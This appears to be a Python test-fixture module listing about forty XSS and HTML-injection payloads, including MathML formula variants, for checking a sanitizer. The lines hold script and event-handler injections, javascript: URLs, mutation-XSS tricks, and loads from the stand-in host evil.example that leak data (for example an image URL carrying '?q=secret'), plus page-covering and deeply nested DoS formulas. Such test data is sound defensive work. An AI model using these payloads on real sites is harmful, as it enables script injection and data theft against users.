"""Twenty-five texts that run a script or call out where a page takes text for HTML, formulas and drawings.

`PWNED` is what each of them tries to do; every address leads to a host that does not exist.
"""

from __future__ import annotations

PWNED = "window.pwned=1"
FAR = "https://evil.example/"
PAYLOADS = (
    f"<script>{PWNED}</script>",
    f"</p></textarea></title><script>{PWNED}</script>",
    f'<img src=x onerror="{PWNED}">',
    f'"><svg onload={PWNED}>',
    f"<svg><script>{PWNED}</script></svg>",
    f'<svg><animate onbegin="{PWNED}" attributeName=x dur=1s>',
    f'<body onload="{PWNED}">',
    f'<details open ontoggle="{PWNED}">boats</details>',
    f'<input autofocus onfocus="{PWNED}">',
    f'<video><source onerror="{PWNED}"></video>',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    f'<iframe src="javascript:parent.{PWNED}"></iframe>',
    f'<object data="data:text/html,<script>{PWNED}</script>"></object>',
    f'<math><mtext><style><img title="</style><img src=x onerror={PWNED}>"></style></mtext></math>',
    f"<template><script>{PWNED}</script></template><img/src/onerror={PWNED}>",
    f"[boats](javascript:{PWNED})",
    f"![boats]({FAR}leak.png?q=secret)",
    f"![boats][far]\n\n[far]: {FAR}reference.png",
    f'<img src="{FAR}pixel.gif">',
    f'<link rel="stylesheet" href="{FAR}steal.css">',
    f'<link rel="prefetch" href="{FAR}prefetch"><link rel="dns-prefetch" href="//evil.example">',
    f"<style>@import url({FAR}import.css); body {{ background: url({FAR}body.png) }}</style>",
    f'<meta http-equiv="refresh" content="0;url={FAR}gone">',
    f'<form action="{FAR}form"><button autofocus>boats</button></form><base href="{FAR}">',
    f"{{{{constructor.constructor('{PWNED}')()}}}}${{{PWNED}}}`;{PWNED}//'\"-->",
)
assert len(PAYLOADS) == 25

MATH = "http://www.w3.org/1998/Math/MathML"
HTML = "http://www.w3.org/1999/xhtml"
FORMULAS = (
    f'<math><mi href="javascript:{PWNED}">x</mi><mo>=</mo><mn>1</mn></math>',
    f'<math xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:{PWNED}"><mi>x</mi></math>',
    f'<math onclick="{PWNED}" onfocus="{PWNED}" tabindex="0" autofocus="">'
    f'<mi onmouseover="{PWNED}">x</mi></math>',
    f'<math style="background: url({FAR}m.png); position: fixed; inset: 0">'
    '<mi style="color: red">x</mi></math>',
    "<math><semantics><mi>x</mi><annotation-xml encoding='text/html'>"
    f'<script>{PWNED}</script><img src="{FAR}a.png" onerror="{PWNED}"/></annotation-xml></semantics></math>',
    "<math><semantics><mi>x</mi><annotation-xml encoding='application/xhtml+xml'>"
    f'<iframe xmlns="{HTML}" src="javascript:parent.{PWNED}"></iframe></annotation-xml></semantics></math>',
    "<math><semantics><mi>x</mi><annotation-xml encoding='SVG1.1'><svg xmlns='http://www.w3.org/2000/svg'"
    f' onload="{PWNED}"><script>{PWNED}</script></svg></annotation-xml></semantics></math>',
    f'<math><maction actiontype="statusline#{FAR}" xlink:href="javascript:{PWNED}">'
    "<mi>x</mi><mi>y</mi></maction></math>",
    f'<math><maction actiontype="toggle" selection="2"><mi>x</mi>'
    f'<mtext><img src="x" onerror="{PWNED}"/></mtext></maction></math>',
    f'<math><mglyph src="{FAR}glyph.png" alt="x"/><mi><mglyph src="{FAR}glyph2.png" alt="x"/>x</mi></math>',
    f"<math><mtext><script>{PWNED}</script><style>@import url({FAR}m.css);</style>x</mtext></math>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={PWNED}&gt;"/>'
    "</mglyph></table>x</mtext></math>",
    f"<math><mi>&lt;img src=x onerror={PWNED}&gt;</mi>"
    f"<mi>&#60;script&#62;{PWNED}&#60;/script&#62;</mi></math>",
    f'<m:math xmlns:m="{MATH}"><m:mi m:href="javascript:{PWNED}">x</m:mi>'
    f"<m:script>{PWNED}</m:script></m:math>",
    f'<math><mrow><svg><foreignObject><body onload="{PWNED}"><script>{PWNED}</script></body></foreignObject>'
    "</svg><mi>x</mi></mrow></math>",
    f'<math><mi mathvariant="javascript:{PWNED}" mathbackground="url({FAR}b.png)"'
    f' background="{FAR}c.png">x</mi></math>',
    "<math><mspace width='99999em' height='99999em'/>"
    "<mpadded voffset='-500em' lspace='-500em'><mi>x</mi></mpadded>"
    "<mo minsize='99999em'>(</mo></math>",
    '<math><mstyle scriptlevel="-30"><mi>x</mi></mstyle></math>',
    "<math>" + "<mrow>" * 300 + "<mi>x</mi>" + "</mrow>" * 300 + "</math>",
)
"""Formulas that run a script, call out, cover the page, or nest without end."""
